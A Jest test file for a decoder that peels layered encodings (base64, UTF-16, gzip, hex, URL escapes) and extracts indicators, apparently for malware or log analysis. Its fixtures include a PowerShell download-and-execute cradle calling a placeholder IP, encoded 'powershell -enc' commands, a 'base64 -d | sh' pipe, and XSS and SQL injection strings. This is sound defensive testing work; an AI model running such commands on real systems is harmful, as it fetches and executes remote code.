import { createHash, randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { flat } from './peel-many.js';
import { peel } from './peel.js';
import { PEEL_LIMITS, type PeelLimits } from './types.js';

const run = (value: string, limits: Partial<PeelLimits> = {}) => peel(value, { ...PEEL_LIMITS, ...limits });
const layersOf = (value: string, limits: Partial<PeelLimits> = {}) => flat(run(value, limits).layers);
const shape = (value: string) => layersOf(value).map(({ path, encoding }) => `${path} ${encoding}`);
const deepest = (value: string) => layersOf(value).at(-1)?.text;

const b64 = (data: string | Buffer) => Buffer.from(data).toString('base64');
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const pe = () => {
  const bytes = Buffer.alloc(256);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
};

describe('peel', () => {
  it.each<[string, string, string[], string]>([
    ['base64', b64('whoami /all and more'), ['1 base64'], 'whoami /all and more'],
    ['base64 without padding', b64('net user mallory').replace(/=+$/, ''), ['1 base64'], 'net user mallory'],
    ['a short word as UTF-16', 'SQBFAFgA', ['1 base64', '1.1 utf-16le'], 'IEX'],
    ['URL-safe base64', Buffer.from('subjects>>>???ids?').toString('base64url'), ['1 base64url'], 'subjects>>>???ids?'],
    ['powershell -enc', `powershell.exe -NoP -enc ${b64(utf16(SCRIPT))}`, ['1 base64', '1.1 utf-16le'], SCRIPT],
    ['powershell -e, quoted', `powershell -e "${b64(utf16('ls'))}"`, ['1 base64', '1.1 utf-16le'], 'ls'],
    ['a cut command line', `powershell -enc ${b64(utf16(SCRIPT)).slice(0, 61)}`, ['1 base64', '1.1 utf-16le'], SCRIPT.slice(0, 22)],
    ['FromBase64String', "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bHM=')))", ['1 base64'], 'ls'],
    ['echo | base64 -d', 'echo bHM7aWQ= | base64 -d | sh', ['1 base64'], 'ls;id'],
    ['a data URL', 'data:text/plain;base64,aGVsbG8gd29ybGQ=', ['1 base64'], 'hello world'],
    ['wrapped lines', (b64('x'.repeat(30) + ' some long text '.repeat(8)).match(/.{1,76}/g) ?? []).join('\r\n'), ['1 base64'], 'x'.repeat(30) + ' some long text '.repeat(8)],
    ['a URL path', `https://t.example/r/${b64('https://evil.example/login')}/x`, ['1 base64'], 'https://evil.example/login'],
    ['UTF-16BE', b64(Buffer.from(utf16('whoami')).swap16()), ['1 base64', '1.1 utf-16be'], 'whoami'],
    ['Cyrillic UTF-16', b64(utf16('привет, мир и все')), ['1 base64', '1.1 utf-16le'], 'привет, мир и все'],
    ['UTF-8 beyond ASCII', b64('grüße aus köln — 東京'), ['1 base64'], 'grüße aus köln — 東京'],
    ['gzip', b64(gzipSync(SCRIPT)), ['1 base64', '1.1 gzip'], SCRIPT],
    ['zlib', b64(deflateSync(SCRIPT)), ['1 base64', '1.1 zlib'], SCRIPT],
    ['raw deflate', b64(deflateRawSync(SCRIPT)), ['1 base64', '1.1 deflate'], SCRIPT],
    ['gzip in hex', gzipSync(SCRIPT).toString('hex'), ['1 hex', '1.1 gzip'], SCRIPT],
    ['hex escapes', 'sh -c "\\x77\\x68\\x6f\\x61\\x6d\\x69"', ['1 hex escapes'], 'whoami'],
    ['a byte array', '[byte[]] $b = 0x77,0x68, 0x6F,0x61,0x6d,0x69', ['1 hex escapes'], 'whoami'],
    ['0x literal', "exec(0x77686f616d69202f616c6c203e206f75742e747874)", ['1 hex'], 'whoami /all > out.txt'],
    ['dashed hex', '77-68-6F-61-6D-69-20-2F-61-6C-6C-20-2F-66', ['1 hex'], 'whoami /all /f'],
    ['URL encoding', 'GET /x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', ['1 url'], '/x?q=<script>alert(1)</script>'],
    ['double URL encoding', '%2527%2520OR%25201%253D1', ['1 url', '1.1 url'], "' OR 1=1"],
    ['%u escapes', '%u0077%u0068%u006f', ['1 url'], 'who'],
    ['three layers', b64(utf16(`powershell -enc ${b64(utf16("IEX 'x'"))}`)), ['1 base64', '1.1 utf-16le', '1.1.1 base64', '1.1.1.1 utf-16le'], "IEX 'x'"],
    ['two in one text', `a=${b64('first of the two values')} b=${b64('second of the two values')}`, ['1 base64', '2 base64'], 'second of the two values'],
    ['base64 in a URL-encoded query', `https://x.example/?d=${encodeURIComponent(b64('GET /secret HTTP/1.1\r\n!'))}`, ['1 url', '1.1 base64'], 'GET /secret HTTP/1.1\r\n!'],
  ])('reads %s', (_name, value, layers, text) => {
    expect(shape(value)).toEqual(layers);
    expect(deepest(value)).toBe(text);
  });

  it.each([
    'Administrator', 'password', 'DESKTOP-ABC1234', 'InvalidOperationException', 'C:/Windows/System32/drivers/etc/hosts',
    'The quick brown fox jumps over the lazy dog', '%APPDATA%\\Microsoft\\Windows', '%CD%\\x', '%admin%', '100%', '00:1a:2b:3c:4d:5e',
    'd41d8cd98f00b204e9800998ecf8427e', 'da39a3ee5e6b4b0d3255bfef95601890afd80709', '4d5a8cd98f00b204e9800998ecf8427e', '6F9619FF-8B86-D011-B42D-00C04FC964FF',
    'some-very-long_hyphenated-name_that-goes-on', 'grep -e password file.txt', '0x00007ff6a1b2c3d4', '2026-01-01T00:00:00.000Z',
    'AAAAAAAAAAAAAAAAAAAAAAAA', '4111111111111111', '12345678', 'S-1-5-21-3623811015-3361044348-30300820-1013', 'getElementsByClassName',
    'https://login.microsoftonline.com/common/oauth2/authorize', '{"operationName":"UserLoggedIn"}', 'Microsoft.Compute/virtualMachines/write',
    'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', '', ' ', '\u0000\u0001',
  ])('leaves %j alone', (value) => {
    expect(shape(value)).toEqual([]);
  });

  it('leaves nearly all random words of base64 digits alone', () => {
    const words = Array.from({ length: 2_000 }, (_, seed) => createHash('sha256').update(`word ${seed}`).digest('base64').replace(/[+/=]/g, '').slice(0, 20));
    expect(words.filter((word) => shape(`token ${word} end`).length > 0)).toEqual([]);
  });

  it('tells size, place, hashes and type of a layer', () => {
    const value = `payload=${b64(pe())};`;
    expect(layersOf(value)).toEqual([{
      path: '1', encoding: 'base64', offset: 8, length: 344, source: { offset: 8, length: 344, exact: true }, size: 256, entropy: 0.18,
      type: 'PE executable', facts: expect.any(Array), text: '', textCut: false, children: [],
      md5: createHash('md5').update(pe()).digest('hex'),
      sha1: createHash('sha1').update(pe()).digest('hex'),
      sha256: createHash('sha256').update(pe()).digest('hex'),
    }]);
    expect(layersOf(pe().toString('hex'))[0]?.type).toBe('PE executable');
    expect(layersOf('4d5a90000300000004000000')[0]?.type).toBe('PE executable');
    expect(layersOf(b64(SCRIPT))[0]?.type).toBe('PowerShell script');
    expect(layersOf(b64('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3'))[0]?.type).toBe('PDF document');
    expect(layersOf(b64(utf16('plain words')))[0]?.type).toBe('UTF-16 text');
  });

  it('gives random bytes as data only where it is said that they are base64', () => {
    const bytes = createHash('sha512').update('noise').digest();
    expect(layersOf(`x [Convert]::FromBase64String("${b64(bytes)}")`).map(({ type }) => type)).toEqual(['data']);
    expect(layersOf(`x ${b64(bytes)} y`)).toEqual([]);
  });

  it('finds indicators in every layer and says where', () => {
    const { indicators } = run(`powershell -enc ${b64(utf16(SCRIPT))} # 198.51.100.7`);
    expect(indicators).toEqual([
      { type: 'ipv4', value: '198.51.100.7', layer: '', offset: 215, length: 12, source: { offset: 215, length: 12, exact: true } },
      { type: 'url', value: 'http://203.0.113.9/a.ps1', layer: '1.1', offset: 47, length: 24, source: { offset: 141, length: 65, exact: true } },
      { type: 'ipv4', value: '203.0.113.9', layer: '1.1', offset: 54, length: 11, source: { offset: 160, length: 30, exact: true } },
    ]);
  });

  it('reads what there is of a stream that is cut off', () => {
    const packed = gzipSync(Buffer.from(SCRIPT.repeat(20) + createHash('sha512').update('x').digest('hex')));
    const layer = layersOf(b64(packed.subarray(0, packed.length - 20))).at(-1);
    expect(layer).toMatchObject({ encoding: 'gzip', note: 'the stream is cut off' });
    expect(layer?.text.startsWith(SCRIPT)).toBe(true);
  });
});

describe('limits of peel', () => {
  const nested = (levels: number) => Array.from({ length: levels }).reduce<string>((value) => b64(value), 'the innermost text of all');

  it('stops at the depth and says so', () => {
    const { layers, notes } = run(nested(8), { depth: 3 });
    expect(flat(layers)).toHaveLength(3);
    expect(notes).toEqual(['There is more to peel below depth 3; depth= raises it (20 at most).']);
    expect(run(nested(3), { depth: 3 }).notes).toEqual([]);
  });

  it('survives a thousand levels of encoding', () => {
    const value = Array.from({ length: 1_000 }).reduce<string>((inner) => `%${Buffer.from(inner.slice(0, 1)).toString('hex')}${inner.slice(1)}`, 'a%');
    expect(layersOf(value, { depth: 20 }).length).toBeLessThanOrEqual(20);
  });

  it('stops at the number of layers', () => {
    const value = Array.from({ length: 50 }, (_, index) => b64(`value number ${index} of many`)).join(' ');
    const { layers, notes } = run(value, { layers: 10 });
    expect(layers).toHaveLength(10);
    expect(notes).toEqual(['It stopped after 10 layers.']);
  });

  it('does not unpack a decompression bomb', () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000), { level: 9 });
    const { layers, notes } = run(b64(bomb));
    expect(layers[0]?.children).toEqual([]);
    expect(notes[0]).toMatch(/^A layer was left alone/);
    const twice = run(b64(gzipSync(gzipSync(Buffer.alloc(50_000_000)))));
    expect(flat(twice.layers).reduce((sum, layer) => sum + layer.size, 0)).toBeLessThan(PEEL_LIMITS.outputBytes);
  });

  it('gets through a token of ten megabytes', () => {
    expect(layersOf(b64(randomBytes(7_500_000))).length).toBeLessThanOrEqual(1);
  });

  it.each<[string, string, number]>([
    ['base64', b64('A long text. '.repeat(150_000)), 1_950_000],
    ['hex', Buffer.from('A long text. '.repeat(80_000)).toString('hex'), 1_040_000],
    ['hex escapes', '\\x41'.repeat(500_000), 500_000],
    ['hex escapes', '0x41,'.repeat(400_000), 400_000],
    ['url', '%41'.repeat(330_000), 330_000],
    ['none', 'A'.repeat(2_000_000), 0],
    ['none', 'words of a text '.repeat(120_000), 0],
    ['none', '%'.repeat(2_000_000), 0],
  ])('gets through megabytes of %s', (encoding, value, size) => {
    const [layer] = run(value).layers;
    expect(layer?.encoding ?? 'none').toBe(encoding);
    expect(layer?.size ?? 0).toBe(size);
  });

  it('says what it did not read', () => {
    expect(run('a'.repeat(101), { inputLength: 100 }).notes).toEqual(['Only the first 100 characters were read.']);
    expect(run(b64('whoami /all and more'), { expired: () => true }).notes).toEqual(['It stopped when its time was up.']);
  });

  it('never throws and keeps its bounds, whatever the value', () => {
    const wrap = fc.constantFrom<(text: string) => string>(
      (text) => b64(text), (text) => b64(utf16(text)), (text) => b64(gzipSync(text)), (text) => Buffer.from(text).toString('hex'),
      (text) => encodeURIComponent(Buffer.from(text).toString()), (text) => b64(deflateRawSync(text)), (text) => `powershell -enc ${text}`, (text) => text.slice(0, -2),
      (text) => `${text} ${text}`, (text) => b64(gzipSync(text).subarray(4)), (text) => `FromBase64String('${text}')`,
    );
    const start = fc.oneof(fc.string({ unit: 'binary' }), fc.uint8Array().map((bytes) => Buffer.from(bytes).toString('latin1')), fc.constant(SCRIPT));
    const limits = { depth: 4, layers: 12, outputBytes: 5_000 };
    fc.assert(fc.property(start, fc.array(wrap, { maxLength: 6 }), (text, wraps) => {
      const layers = layersOf(wraps.reduce((value, next) => next(value), text), limits);
      expect(layers.length).toBeLessThanOrEqual(limits.layers);
      expect(Math.max(0, ...layers.map(({ path }) => path.split('.').length))).toBeLessThanOrEqual(limits.depth);
      expect(layers.reduce((sum, { size }) => sum + size, 0)).toBeLessThanOrEqual(limits.outputBytes);
    }), { numRuns: 400, interruptAfterTimeLimit: 5_000 });
  });
});
